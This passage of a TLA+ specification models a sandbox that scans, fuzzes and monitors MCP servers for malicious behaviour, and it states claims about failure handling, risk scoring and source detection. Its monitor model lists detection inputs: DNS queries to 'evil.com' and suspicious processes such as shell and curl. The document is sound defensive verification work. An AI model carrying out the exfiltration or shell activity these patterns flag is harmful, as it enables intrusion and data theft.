           /\ escaped' = source.raised
           /\ pc' = IF source.raised # "" THEN "raised" ELSE "created"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key,
                   scan_result, fuzz_results, behavior_report, report_file, container,
                   monitor, teardowns, env>>

NextFactory == CreateSource

SpecFactory == InitFactory /\ [][NextFactory]_vars

(***************************************************************************)
(* The configuration parser (src/src/utils/config_parser.py)               *)
(***************************************************************************)
\* A line is a sequence of tokens: an identifier (a run of \w characters), a
\* blank " ", ":", "#", or a value text without blanks at its ends.
Identifiers == {"source", "Source", "ref", "colour"}

ConfigKeys == {"source", "ref", "version", "source_type", "server_url", "anthropic_key"}

\* re.match(r"^(\w+):\s*(.+)$", line) on a stripped line: the groups, or None
KeyValue(line) ==
    IF Len(line) >= 3 /\ line[1] \in Identifiers /\ line[2] = ":"
       /\ strip(SubSeq(line, 3, Len(line))) # <<>>
    THEN [key |-> line[1], value |-> strip(SubSeq(line, 3, Len(line)))]
    ELSE None

RECURSIVE ParseLines(_, _)
\* the loop over the lines of the file
ParseLines(config, lines) ==
    IF lines = <<>> THEN config
    ELSE LET line == strip(Head(lines))
             match == KeyValue(line)
             next == IF line = <<>> \/ Head(line) = "#" THEN config
                     ELSE IF match # None /\ lower(match.key) \in DOMAIN config
                          THEN [config EXCEPT ![lower(match.key)] = [text |-> strip(match.value)]]
                          ELSE config
         IN  ParseLines(next, Tail(lines))

\* the validation of the required field left out
parse_config_file_Unvalidated(lines) ==
    Value(ParseLines([key \in ConfigKeys |-> None], lines))

\* lines is the content of the file at config_path
parse_config_file(lines) ==
    LET config == ParseLines([key \in ConfigKeys |-> None], lines)
    IN  IF config["source"] = None THEN Raise("ValueError") ELSE Value(config)

ConfigLines ==
    {<<>>,
     <<" ">>,
     <<"#", " ", "source", ":", " ", "commented">>,
     <<" ", "#", "note">>,
     <<"source", ":", " ", "owner/repo">>,
     <<" ", "source", ":", " ", " ", "npm:pkg", " ">>,
     <<"source", ":", " ">>,
     <<"Source", ":", "pkg==1">>,
     <<"source", " ", ":", " ", "spaced">>,
     <<"ref", ":", " ", "main">>,
     <<"ref", ":", " ", "main", " ", "#", " ", "note">>,
     <<"colour", ":", " ", "red">>,
     <<"plain text">>}

InitConfig ==
    /\ anthropic_api_key = FALSE
    /\ pc = "config"
    /\ workspace \in [config_path : SeqsUpTo(ConfigLines, ConfigLength)]
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>

\* config = parse_config_file(config_path)
ParseConfig ==
    /\ pc = "config"
    /\ LET config == parse_config_file(workspace.config_path)
       IN  /\ result' = config.value
           /\ escaped' = config.raised
           /\ pc' = IF config.raised # "" THEN "raised" ELSE "parsed"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key,
                   scan_result, fuzz_results, behavior_report, report_file, container,
                   monitor, log, teardowns, env>>

NextConfig == ParseConfig

SpecConfig == InitConfig /\ [][NextConfig]_vars

(***************************************************************************)
(* The campaign over several operations: the same steps, started on        *)
(* listings of up to CampaignLength operations                             *)
(***************************************************************************)
CampaignSchemas == {StrTool, NumTool, MixedTool, NullTool}

CampaignResponses == {Down, Clean, Leaky}

InitCampaign ==
    /\ anthropic_api_key \in BOOLEAN
    /\ pc = "campaign"
    /\ mcp_server \in [listing : {[tools |-> t] :
                                     t \in SeqsUpTo(CampaignSchemas, CampaignLength)},
                        answers : [BOOLEAN -> CampaignResponses]]
    /\ todo = discover_tools(mcp_server)
    /\ pending = <<>>
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ workspace = None

SpecCampaign == InitCampaign /\ [][NextFuzz]_vars

(***************************************************************************)
(* The behaviour monitor on its own: start_monitoring, then generate_report *)
(***************************************************************************)
\* seconds between the access time stat prints and the monitor's clock; an
\* access time ahead of that clock gives a negative age
DecoyAges == {-5, 10, 59, 60, 120}

DecoyStats == {StatErr} \cup {[ok |-> TRUE, age |-> a] : a \in DecoyAges}

TsharkRuns ==
    {[outcome |-> o, queries |-> <<>>] : o \in {"missing", "timeout", "failed"}}
    \cup {[outcome |-> "ok", queries |-> q] : q \in SeqsUpTo({"evil.com", "cdn.net"}, MaxQueries)}

\* what the probes read: the first decoy with every stat answer, the others
\* old, fresh or unreadable
MonitorObservations ==
    [stat : {<<a, b, c>> : a \in DecoyStats, b \in {StatOld, StatNew, StatErr},
                           c \in {StatOld, StatNew, StatErr}},
     connections : {"absent", "unreadable", "quiet", "outbound"},
     pcap : {"absent", "unreadable", "captured"},
     tshark : TsharkRuns,
     ps : {[ok |-> FALSE, found |-> {}], [ok |-> TRUE, found |-> {}],
           [ok |-> TRUE, found |-> {"sh", "bash", "curl"}]},
     logs : {[ok |-> FALSE, found |-> {}], [ok |-> TRUE, found |-> {}],
             [ok |-> TRUE, found |-> {"denied", "fatal"}]}]

InitMonitor ==
    /\ anthropic_api_key = FALSE
    /\ pc = "monitor"
    /\ workspace \in {obs \in MonitorObservations :
                         obs.pcap # "captured" => obs.tshark.outcome = "missing"}
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>

\* monitor = BehaviorMonitor(container.name); monitor.start_monitoring()
MonitorStart ==
    /\ pc = "monitor"
    /\ monitor' = start_monitoring("mcp-malware-sandbox")
    /\ pc' = "monitoring"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key,
                   scan_result, fuzz_results, behavior_report, report_file, container,
                   result, escaped, log, teardowns, env>>

\* report = monitor.generate_report()
MonitorReport ==
    /\ pc = "monitoring"
    /\ behavior_report' = generate_report(monitor, workspace)
    /\ monitor' = [monitor EXCEPT !.events = EventsAfterReport(monitor, workspace)]
    /\ env' = [env EXCEPT !.probes = ProbesVerdict(workspace)]
    /\ pc' = "reported"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key,
                   scan_result, fuzz_results, report_file, container, result, escaped, log,
                   teardowns>>

NextMonitor ==
    \/ MonitorStart
    \/ MonitorReport

SpecMonitor == InitMonitor /\ [][NextMonitor]_vars

(***************************************************************************)
(* What happened in the current call, read off the environment's choices   *)
(***************************************************************************)
Returned == pc = "returned"

ProvisionFailed == env.provision \in {"ImageNotFound", "APIError"}
Provisioned == env.provision = "created"

\* the scanner was not installed, timed out or exited with an error status
ScannerFailed == env.scanner = "failed"

\* tools/list failed or declared no operation
DiscoveryEmpty == env.discovery \in {"failed", "empty"}

\* the exception the campaign raised in this call, "" if none
CampaignError == env.error

\* some payload of this call's campaign could not be executed
PayloadFailed ==
    /\ env.discovery = "tools" /\ env.error = ""
    /\ \E i \in 1..Len(fuzz_results) : ~fuzz_results[i].success

ProbeFailed == env.probes = "failed"

TeardownFailed == env.teardown \in {"stop raises", "remove raises"}

SomeFailure ==
    \/ ScannerFailed
    \/ ProvisionFailed
    \/ env.discovery = "failed"
    \/ CampaignError # ""
    \/ PayloadFailed
    \/ ProbeFailed
    \/ TeardownFailed

\* the lines _generate_recommendations derives from the result's own score and
\* evidence; they report the risk tier, vulnerabilities, leaks and alerts
EvidenceLines(r) ==
    _generate_recommendations(r.overall_risk_score, r.scan_result, r.fuzz_results,
                              r.behavior_report)

\* some recommendation of r says more than its score and evidence do
ReportsFailure(r) ==
    \E i \in 1..Len(r.recommendations) : r.recommendations[i] \notin Range(EvidenceLines(r))

(***************************************************************************)
(* C1                                                                      *)
(***************************************************************************)
\* C1 (as stated): run_complete_analysis never raises outward and, whatever
\* failed during the call (scanner, provisioning, discovery, payload, probe,
\* teardown, internal exception), the failure shows in the returned status or
\* in the recommendations.
C1_AllFailuresCaptured ==
    /\ pc # "raised"
    /\ Returned /\ SomeFailure =>
          result.status = "FAILED" \/ ReportsFailure(result)

\* C1 (amended): run_complete_analysis never raises outward and always returns
\* a SandboxResult; a provisioning failure or an internal exception gives
\* FAILED with the single recommendation naming the cause, while scanner,
\* discovery, payload, probe and teardown failures are absorbed: the result
\* is COMPLETED and its recommendations are those of score and evidence alone.
C1_NeverRaises ==
    /\ pc # "raised" /\ escaped = ""
    /\ Returned =>
          /\ result # None
          /\ IF ProvisionFailed
             THEN /\ result.status = "FAILED"
                  /\ result.recommendations = <<"Analysis failed: Failed to create sandbox">>
             ELSE IF CampaignError # ""
             THEN /\ result.status = "FAILED"
                  /\ result.recommendations = <<"Analysis failed: " \o CampaignError>>
             ELSE /\ result.status = "COMPLETED"
                  /\ ~ReportsFailure(result)

\* an internal exception of the interrogation phase was turned into a result
C1_Witness ==
    /\ Returned /\ Provisioned /\ CampaignError # ""
    /\ result.status = "FAILED"

(***************************************************************************)
(* C2                                                                      *)
(***************************************************************************)
\* C2: whenever provisioning fails the call returns FAILED, score 100.0, one
\* recommendation naming the cause, no fuzz results and no behaviour report.
C2_FatalPath ==
    Returned /\ ProvisionFailed =>
        /\ result.status = "FAILED"
        /\ result.overall_risk_score = 100
        /\ result.recommendations = <<"Analysis failed: Failed to create sandbox">>
        /\ result.fuzz_results = <<>>
        /\ result.behavior_report = None

(***************************************************************************)
(* C3                                                                      *)
(***************************************************************************)
\* C3: a call that created a container has torn it down exactly once by the
\* time it returns, on every exit path.
C3_ReleasedOnce ==
    Returned /\ Provisioned => teardowns = 1

(***************************************************************************)
(* C4                                                                      *)
(***************************************************************************)
\* C4: FAILED is returned only when the isolation environment could not be
\* provisioned.
C4_OneFatalPath ==
    Returned /\ result.status = "FAILED" => ProvisionFailed

(***************************************************************************)
(* C5                                                                      *)
(***************************************************************************)
\* the cause of the failure of the current call
FailureCause == IF ProvisionFailed THEN "Failed to create sandbox" ELSE CampaignError

\* C5: every returned result is COMPLETED or FAILED, and every FAILED result
\* has score 100.0 and a recommendation naming the cause.
C5_TerminalStatus ==
    Returned =>
        /\ result.status \in {"COMPLETED", "FAILED"}
        /\ result.status = "FAILED" =>
              /\ result.overall_risk_score = 100
              /\ FailureCause # ""
              /\ \E i \in 1..Len(result.recommendations) :
                    result.recommendations[i] = "Analysis failed: " \o FailureCause

\* a FAILED result whose evidence alone would score below 100
C5_Witness ==
    /\ Returned /\ result.status = "FAILED"
    /\ _calculate_risk_score(scan_result, fuzz_results, behavior_report) < 100

(***************************************************************************)
(* C6                                                                      *)
(***************************************************************************)
IsPrefix(a, b) == Len(a) <= Len(b) /\ a = SubSeq(b, 1, Len(a))

\* the number of phases that have returned when the coroutine is at a position
Done(p) ==
    CASE p = "idle" -> 0
      [] p = "phase1" -> 0
      [] p = "phase2" -> 1
      [] p = "phase3" -> 2
      [] p = "phase4" -> 3
      [] p = "phase5" -> 4
      [] p = "cleanup" -> 5
      [] p = "phase6" -> 6
      [] p = "display" -> 7
      [] OTHER -> Len(log)

RunStatus == IF result = None THEN "<no result>" ELSE result.status

ClaimedEdges ==
    {<<"INITIALIZING", "SCANNING">>, <<"SCANNING", "ISOLATING">>,
     <<"ISOLATING", "INTERROGATING">>, <<"INTERROGATING", "MONITORING">>,
     <<"MONITORING", "REPORTING">>, <<"REPORTING", "COMPLETED">>}
    \cup {<<st, "FAILED">> : st \in SandboxStatus \ {"COMPLETED", "FAILED"}}

\* C7: the status starts at INITIALIZING when the call starts and changes only
\* along INITIALIZING, SCANNING, ISOLATING, INTERROGATING, MONITORING,
\* REPORTING, COMPLETED, or to FAILED.
C7_StateMachine ==
    [][/\ pc' = "phase1" => RunStatus' = "INITIALIZING"
       /\ RunStatus' # RunStatus /\ pc' # "phase1" =>
             <<RunStatus, RunStatus'>> \in ClaimedEdges]_vars

(***************************************************************************)
(* C8                                                                      *)
(***************************************************************************)
\* C8: when the scanner is missing, fails or times out, or discovery fails or
\* finds no operation, a call whose provisioning succeeds still runs every
\* later phase and returns COMPLETED with that evidence absent and nothing
\* added to the score for it.
C8_RecoverableAbsent ==
    /\ Returned /\ Provisioned /\ ScannerFailed =>
          /\ result.status = "COMPLETED" /\ log = PhaseOrder
          /\ result.scan_result = None
          /\ result.overall_risk_score =
                _calculate_risk_score(None, result.fuzz_results, result.behavior_report)
    /\ Returned /\ Provisioned /\ DiscoveryEmpty =>
          /\ result.status = "COMPLETED" /\ log = PhaseOrder
          /\ result.fuzz_results = <<>>
          /\ result.overall_risk_score =
                _calculate_risk_score(result.scan_result, <<>>, result.behavior_report)

(***************************************************************************)
(* C9                                                                      *)
(***************************************************************************)
\* C9 (as stated): when stop or remove raises, nothing is re-raised, the call
\* returns its normal result and a recommendation reports the teardown failure.
C9_TeardownReported ==
    Returned /\ TeardownFailed =>
        /\ escaped = ""
        /\ result.status = "COMPLETED"
        /\ ReportsFailure(result)

\* C9 (amended): when stop or remove raises, nothing is re-raised and the call
\* returns its normal result: COMPLETED, with exactly the score and the
\* recommendations of the evidence; no recommendation reports the teardown
\* failure, which is only printed.
C9_TeardownSwallowed ==
    Returned /\ TeardownFailed =>
        /\ escaped = ""
        /\ result = _generate_final_result(scan_result, fuzz_results, behavior_report)
        /\ ~ReportsFailure(result)

\* a call returned after stop raised, the container still running
C9_Witness ==
    /\ Returned /\ env.teardown = "stop raises"
    /\ container.state = "running"
    /\ result.status = "COMPLETED"

(***************************************************************************)
(* C10                                                                     *)
(***************************************************************************)
Capped(x, cap) == IF x >= cap THEN cap ELSE x

\* V, F and B of the scoring rule, written from the evidence of a result
ClaimedV(r) ==
    IF r.scan_result = None THEN 0
    ELSE Capped(10 * Cardinality({i \in DOMAIN r.scan_result.vulnerabilities :
                                   r.scan_result.vulnerabilities[i] = "CRITICAL"}), 40)
         + Capped(5 * Cardinality({i \in DOMAIN r.scan_result.vulnerabilities :
                                    r.scan_result.vulnerabilities[i] = "HIGH"}), 20)

ClaimedF(r) ==
    Capped(10 * Cardinality({i \in DOMAIN r.fuzz_results :
                              Len(r.fuzz_results[i].leaked_data) > 0}), 20)
    + Capped(5 * Cardinality({i \in DOMAIN r.fuzz_results :
                               Len(r.fuzz_results[i].suspicious_behavior) > 0}), 10)

ClaimedB(r) ==
    IF r.behavior_report = None THEN 0
    ELSE Capped(10 * Len(r.behavior_report.alerts), 30)

CriticalPart(r) ==
    IF r.scan_result = None THEN 0
    ELSE _calculate_risk_score([r.scan_result EXCEPT !.high_count = 0], <<>>, None)

HighPart(r) ==
    IF r.scan_result = None THEN 0
    ELSE _calculate_risk_score([r.scan_result EXCEPT !.critical_count = 0], <<>>, None)

LeakPart(r) ==
    _calculate_risk_score(None,
        [i \in DOMAIN r.fuzz_results |->
            [r.fuzz_results[i] EXCEPT !.suspicious_behavior = <<>>]], None)

SuspiciousPart(r) ==
    _calculate_risk_score(None,
        [i \in DOMAIN r.fuzz_results |-> [r.fuzz_results[i] EXCEPT !.leaked_data = <<>>]],
        None)

BehaviorPart(r) == _calculate_risk_score(None, <<>>, r.behavior_report)

Raised(r) ==
    (IF r.scan_result = None THEN {}
     ELSE {[r EXCEPT !.scan_result.critical_count = @ + 1],
           [r EXCEPT !.scan_result.high_count = @ + 1]})
    \cup {[r EXCEPT !.fuzz_results = Append(@, execute_payload(BaselinePayload, LeakOnly))],
          [r EXCEPT !.fuzz_results = Append(@, execute_payload(BaselinePayload, ExecOnly))]}
    \cup (IF r.behavior_report = None THEN {}
          ELSE {[r EXCEPT !.behavior_report.alerts = Append(@, "Suspicious process detected: x")]})

ScoreOf(r) == _calculate_risk_score(r.scan_result, r.fuzz_results, r.behavior_report)

\* C12: raising one of the counts (critical, high, leaks, suspicious, alerts)
\* of a completed result's evidence by one never gives a lower score.
C12_Monotone ==
    result # None /\ result.status = "COMPLETED" =>
        \A more \in Raised(result) : ScoreOf(more) >= result.overall_risk_score

\* a result at 100 with room left under the behaviour cap: every raised count
\* leaves the score at 100
C12_Witness ==
    /\ result # None /\ result.status = "COMPLETED"
    /\ result.scan_result # None /\ result.behavior_report # None
    /\ result.overall_risk_score = 100
    /\ BehaviorPart(result) = 10
    /\ \A more \in Raised(result) : ScoreOf(more) = 100

(***************************************************************************)
(* C13                                                                     *)
(***************************************************************************)
\* the detail lines the claim lists, from the result's own evidence
ClaimedDetail(r) ==
    LET critical == IF r.scan_result = None THEN 0 ELSE r.scan_result.critical_count
        leaks == Cardinality({i \in DOMAIN r.fuzz_results :
                                Len(r.fuzz_results[i].leaked_data) > 0})
        alerts == IF r.behavior_report = None THEN 0 ELSE Len(r.behavior_report.alerts)
    IN  (IF critical > 0
         THEN <<"Fix " \o ToString(critical) \o " critical vulnerabilities">> ELSE <<>>)
        \o (IF leaks > 0
            THEN <<"Fix " \o ToString(leaks) \o " data leak vulnerabilities">> ELSE <<>>)
        \o (IF alerts > 0 THEN <<"Review behavioral alerts">> ELSE <<>>)

ClaimedHeadline(score) ==
    IF score > 70
    THEN <<"CRITICAL: Do not use this MCP server in production",
           "High risk of security breach detected">>
    ELSE IF score <= 40
    THEN <<"Moderate risk level", "Address minor issues before deployment">>
    ELSE <<"WARNING: Use with extreme caution", "Review and fix identified vulnerabilities">>

\* C13: the recommendations of a completed result are the headline of the tier
\* of its score (above 70 critical, above 40 up to 70 warning, up to 40
\* moderate) followed by the critical-vulnerability, data-leak and
\* behavioural-alert lines, each only when its count is positive; generating
\* the result leaves the evidence as it was, and generating it again from the
\* same evidence gives the same score and the same list.
C13_Recommendations ==
    result # None /\ result.status = "COMPLETED" =>
        /\ result.recommendations
              = ClaimedHeadline(result.overall_risk_score) \o ClaimedDetail(result)
        /\ <<scan_result, fuzz_results, behavior_report>>
              = <<result.scan_result, result.fuzz_results, result.behavior_report>>
        /\ _generate_final_result(scan_result, fuzz_results, behavior_report) = result

\* a score of exactly 40: moderate headline, followed by the critical line only
C13_Witness ==
    /\ result # None /\ result.status = "COMPLETED"
    /\ result.overall_risk_score = 40
    /\ result.recommendations
          = <<"Moderate risk level", "Address minor issues before deployment",
              "Fix 4 critical vulnerabilities">>

(***************************************************************************)
(* C14                                                                     *)
(***************************************************************************)
\* the result carries no scan evidence, no fuzz result and no behaviour alert
EvidenceAbsent(r) ==
    /\ r.scan_result = None
    /\ r.fuzz_results = <<>>
    /\ r.behavior_report = None \/ r.behavior_report.alerts = <<>>

\* C14: every returned result has at least one recommendation, and a call
\* whose provisioning succeeded and whose result carries no evidence at all
\* returns COMPLETED with score 0.0 and the moderate-risk headline.
C14_NeverEmpty ==
    Returned =>
        /\ Len(result.recommendations) >= 1
        /\ Provisioned /\ EvidenceAbsent(result) =>
              /\ result.status = "COMPLETED"
              /\ result.overall_risk_score = 0
              /\ result.recommendations[1] = "Moderate risk level"

(***************************************************************************)
(* C15                                                                     *)
(***************************************************************************)
\* C15: the exit code of analyze depends on the score of the result alone:
\* 1 above 70, 0 with the warning message above 40 up to 70, 0 up to 40; a
\* FAILED run therefore exits with 1.
C15_ExitCode ==
    cli.state = "exited" =>
        /\ cli.code = IF result.overall_risk_score > 70 THEN 1 ELSE 0
        /\ result.overall_risk_score > 40 /\ result.overall_risk_score <= 70 =>
              cli.message = "WARNING - High risk detected"
        /\ result.overall_risk_score <= 40 => cli.message = "Analysis complete"
        /\ result.status = "FAILED" => cli.code = 1

\* a completed run at exactly 70 exits with 0 and the warning
C15_Witness ==
    /\ cli.state = "exited" /\ result.status = "COMPLETED"
    /\ result.overall_risk_score = 70
    /\ cli.code = 0 /\ cli.message = "WARNING - High risk detected"

(***************************************************************************)
(* C16                                                                     *)
(***************************************************************************)
\* the severity strings of the vulnerabilities of a report, in report order
RawSeverities(report) == Flatten(report.Results)

Occurrences(seq, x) == Cardinality({i \in DOMAIN seq : seq[i] = x})

\* C16: in every ScanResult parsed from a report, total_count is the number
\* of vulnerabilities of the list (and of the report), each of the critical,
\* high, medium and low counts is the number of items of that severity, and
\* UNKNOWN items are counted in total_count and in no bucket.
C16_Counts ==
    pc = "scanned" /\ scan_result # None =>
        LET v == scan_result.vulnerabilities
        IN  /\ scan_result.total_count = Len(v)
            /\ Len(v) = Len(RawSeverities(report_file))
            /\ scan_result.critical_count = Occurrences(v, "CRITICAL")
            /\ scan_result.high_count = Occurrences(v, "HIGH")
            /\ scan_result.medium_count = Occurrences(v, "MEDIUM")
            /\ scan_result.low_count = Occurrences(v, "LOW")
            /\ scan_result.total_count
                  = scan_result.critical_count + scan_result.high_count
                    + scan_result.medium_count + scan_result.low_count
                    + Occurrences(v, "UNKNOWN")

\* one CRITICAL and one UNKNOWN: total 2, critical 1, the other buckets 0
C16_Witness ==
    /\ pc = "scanned" /\ scan_result # None
    /\ scan_result.vulnerabilities = <<"CRITICAL", "UNKNOWN">>
    /\ scan_result.total_count = 2 /\ scan_result.critical_count = 1
    /\ scan_result.high_count = 0 /\ scan_result.medium_count = 0
    /\ scan_result.low_count = 0

(***************************************************************************)
(* C17                                                                     *)
(***************************************************************************)
\* C17: when the scanner ran and left a readable report, every vulnerability
\* of the report is in the ScanResult, in order, with its own severity when
\* that is CRITICAL, HIGH, MEDIUM or LOW and with UNKNOWN otherwise (missing
\* or unrecognised string); none is dropped and none makes the others vanish.
C17_UnknownKept ==
    pc = "scanned" /\ env.scanner = "ran" /\ report_file \notin {None, Garbage} =>
        LET raw == RawSeverities(report_file)
        IN  /\ scan_result # None
            /\ Len(scan_result.vulnerabilities) = Len(raw)
            /\ \A i \in 1..Len(raw) :
                  scan_result.vulnerabilities[i]
                      = IF raw[i] \in {"CRITICAL", "HIGH", "MEDIUM", "LOW"}
                        THEN raw[i] ELSE "UNKNOWN"

(***************************************************************************)
(* C18                                                                     *)
(***************************************************************************)
\* what the target answered to the request of a recorded result
Answer(r) == Respond(mcp_server, r.payload)

\* C18: every executed payload yields a FuzzResult and no exception; after a
\* transport failure the result has success false, an error, no response and
\* two empty indicator lists; after a successful call that shows no indicator
\* it has success true, no error and two empty lists; a result has an error
\* exactly when success is false.
C18_TransportFailure ==
    /\ pc = "raised" => pending = <<>>
    /\ \A i \in 1..Len(fuzz_results) :
          LET r == fuzz_results[i]
          IN  /\ Answer(r).transport # "ok" =>
                    /\ r.success = FALSE /\ r.error # None /\ r.response = None
                    /\ r.leaked_data = <<>> /\ r.suspicious_behavior = <<>>
              /\ Answer(r) = Clean =>
                    /\ r.success = TRUE /\ r.error = None /\ r.response # None
                    /\ r.leaked_data = <<>> /\ r.suspicious_behavior = <<>>
              /\ r.success <=> r.error = None

\* a finished campaign whose adversarial calls timed out and whose baseline
\* call succeeded and found nothing
C18_Witness ==
    /\ pc = "fuzzed" /\ Len(fuzz_results) = 7
    /\ Answer(fuzz_results[1]) = TimedOut /\ ~fuzz_results[1].success
    /\ Answer(fuzz_results[7]) = Clean /\ fuzz_results[7].success

(***************************************************************************)
(* C19                                                                     *)
(***************************************************************************)
\* C19: a call answered with a non-success HTTP status or with a body that is
\* not JSON is recorded as a failure of that payload (success false, error
\* set), and the campaign goes on.
C19_HttpError ==
    \A i \in 1..Len(fuzz_results) :
        LET r == fuzz_results[i]
        IN  Answer(r).transport = "ok" /\ (Answer(r).status # 200 \/ ~Answer(r).json) =>
                r.success = FALSE /\ r.error # None

(***************************************************************************)
(* C20                                                                     *)
(***************************************************************************)
\* the payloads of a list that attack property prop with the given attack type
Attacks(payloads, attack_type, prop) ==
    {i \in 1..Len(payloads) :
        /\ payloads[i].attack_type = attack_type
        /\ payloads[i].is_malicious
        /\ \E pair \in payloads[i].payload : pair[1] = prop.name}

\* what the claim promises of the payloads generated for a tool
ManualSet(tool, payloads) ==
    /\ tool.inputSchema # None
    /\ \A j \in 1..Len(tool.inputSchema.properties) :
          LET prop == tool.inputSchema.properties[j]
          IN  prop.type \in {"string", "<absent>"} =>
                 /\ Cardinality(Attacks(payloads, "command_injection", prop)) >= 2
                 /\ Cardinality(Attacks(payloads, "path_traversal", prop)) >= 2
                 /\ Cardinality(Attacks(payloads, "sql_injection", prop)) >= 2
    /\ Cardinality({i \in 1..Len(payloads) : ~payloads[i].is_malicious}) = 1

\* C20: for every tool schema the generator returns, per string-typed
\* property, at least two command-injection, two path-traversal and two
\* SQL-injection payloads tagged adversarial, and exactly one payload tagged
\* benign; the list is the same with and without the LLM generator configured.
C20_ManualPayloads ==
    [][pc = "campaign" /\ pending = <<>> /\ todo # <<>> =>
          /\ pc' # "raised"
          /\ ManualSet(Head(todo), pending')
          /\ pending' = generate_adversarial_payloads(Head(todo), ~anthropic_api_key).value
      ]_vars

\* the manifests of the workspace that exist and can be read
Readable(manifest) == manifest \notin {None, Garbage}

\* C21: check_permissions_manifest always returns a mapping with the keys
\* dangerous_permissions and suspicious_dependencies, and every denylisted
\* module or package declared in any manifest present in the workspace
\* (package.json, pyproject.toml, requirements.txt) appears in the returned
\* findings, whichever combination of manifests exists.
C21_AllManifests ==
    pc = "checked" =>
        /\ {"dangerous_permissions", "suspicious_dependencies"} \subseteq DOMAIN result
        /\ Readable(workspace.package_json) =>
              Range(_check_node_permissions(workspace.package_json).dangerous_permissions)
                  \subseteq Range(result.dangerous_permissions)
        /\ Readable(workspace.pyproject) =>
              Range(_check_python_permissions(workspace.pyproject).dangerous_permissions)
                  \subseteq Range(result.dangerous_permissions)
        /\ Readable(workspace.requirements) =>
              Range(_check_requirements_permissions(workspace.requirements).suspicious_dependencies)
                  \subseteq Range(result.suspicious_dependencies)

\* the kind the documented reference forms and source types are promised
ExpectedClass(w) ==
    CASE LowerType(w.source_type) = "local" -> "LocalSource"
      [] LowerType(w.source_type) = "github" -> "GitHubSource"
      [] LowerType(w.source_type) = "npm" -> "NpmSource"
      [] LowerType(w.source_type) = "pypi" -> "PyPiSource"
      [] w.source_type = "" /\ w.reference \in {<<"/", "srv", "/", "mcp">>, <<".", "/", "mcp">>}
           -> "LocalSource"
      [] w.source_type = ""
         /\ w.reference = <<"https", ":", "/", "/", "github", ".", "com", "/", "owner", "/",
                            "repo">>
           -> "GitHubSource"
      [] w.source_type = "" /\ w.reference = <<"owner", "/", "repo">> /\ ~w.exists
           -> "GitHubSource"
      [] w.source_type = "" /\ w.reference = <<"npm", ":", "pkg">> -> "NpmSource"
      [] w.source_type = "" /\ w.reference = <<"pkg", "@", "1">> /\ ~w.exists -> "NpmSource"
      [] w.source_type = "" /\ w.reference = <<"pypi", ":", "pkg">> -> "PyPiSource"
      [] w.source_type = "" /\ w.reference = <<"pkg", "=", "=", "1">> /\ ~w.exists
           -> "PyPiSource"
      [] OTHER -> ""

\* C22: create_source returns, without raising, a source of the expected kind
\* for each supported reference form (LocalSource for an absolute or "./"
\* path, GitHubSource for a github.com URL or owner/repo, NpmSource for "npm:"
\* or name@version, PyPiSource for "pypi:" or name==version); with an explicit
\* source_type the named kind is returned, and an unknown source_type raises
\* ValueError.
C22_CreateSource ==
    pc \in {"created", "raised"} =>
        /\ ExpectedClass(workspace) # "" =>
              /\ escaped = ""
              /\ result # None
              /\ result.class = ExpectedClass(workspace)
        /\ workspace.source_type = "docker" => escaped = "ValueError"

\* the matchers of the automatic detection, in the words of the precedence
ExplicitPrefix(reference) == NPM_PREFIX_PATTERN(reference) \/ PYPI_PREFIX_PATTERN(reference)
UrlShape(reference) == GITHUB_URL_PATTERN(reference) \/ GITHUB_SHORT_PATTERN(reference)
VersionShape(reference) == NpmVersionShape(reference) \/ PyPiVersionShape(reference)
PathShape(reference) == _is_local_path(reference, FALSE)

PrefixClass(reference) == IF NPM_PREFIX_PATTERN(reference) THEN "NpmSource" ELSE "PyPiSource"
VersionClass(reference) == IF NpmVersionShape(reference) THEN "NpmSource" ELSE "PyPiSource"

\* the class constructed for an automatically detected reference
Detected(class) ==
    pc \in {"created", "raised"} /\ workspace.source_type = "" /\ log = <<class>>

AutoDetected == pc \in {"created", "raised"} /\ workspace.source_type = ""

\* C28 as stated: without an explicit source kind the kind is chosen by the
\* precedence explicit prefix, URL shape, version-operator shape, filesystem
\* existence, default-to-local; a reference matching an earlier matcher is
\* never classified by a later one.
C28_Precedence ==
    AutoDetected =>
        LET r == workspace.reference
        IN  log = <<IF ExplicitPrefix(r) THEN PrefixClass(r)
                    ELSE IF UrlShape(r) THEN "GitHubSource"
                    ELSE IF VersionShape(r) THEN VersionClass(r)
                    ELSE "LocalSource">>

\* C28 as the code has it: the precedence is explicit prefix, GitHub URL,
\* owner/repo short form that does not exist on disk, local path (path prefix,
\* existing path or drive letter), "@" version shape, comparison-operator
\* shape, default-to-local; a reference matching an earlier matcher is never
\* classified by a later one.
C28_Selection ==
    AutoDetected =>
        LET r == workspace.reference
            e == workspace.exists
            short == GITHUB_SHORT_PATTERN(r) /\ ~e
            path == PathShape(r) \/ e
        IN  /\ ExplicitPrefix(r) => log = <<PrefixClass(r)>>
            /\ ~ExplicitPrefix(r) /\ (GITHUB_URL_PATTERN(r) \/ short)
                  => log = <<"GitHubSource">>
            /\ ~ExplicitPrefix(r) /\ ~GITHUB_URL_PATTERN(r) /\ ~short /\ path
                  => log = <<"LocalSource">>
            /\ ~ExplicitPrefix(r) /\ ~GITHUB_URL_PATTERN(r) /\ ~short /\ ~path
               /\ VersionShape(r)
                  => log = <<VersionClass(r)>>
            /\ ~ExplicitPrefix(r) /\ ~GITHUB_URL_PATTERN(r) /\ ~short /\ ~path
               /\ ~VersionShape(r)
                  => log = <<"LocalSource">>

\* a reference of the name@version shape that exists on disk was taken as a
\* local path
